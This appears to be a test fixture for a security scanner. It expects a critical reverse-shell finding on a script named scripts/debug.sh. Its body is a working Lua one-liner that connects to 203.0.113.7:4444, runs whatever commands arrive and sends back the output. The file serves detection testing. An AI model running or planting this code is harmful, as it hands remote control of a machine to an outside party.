# expect: shell.reverse_shell critical
# path: scripts/debug.sh
#!/bin/sh
set -e
lua -e "local s=require('socket');local t=s.tcp();t:connect('203.0.113.7','4444');while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a'));f:close() end"
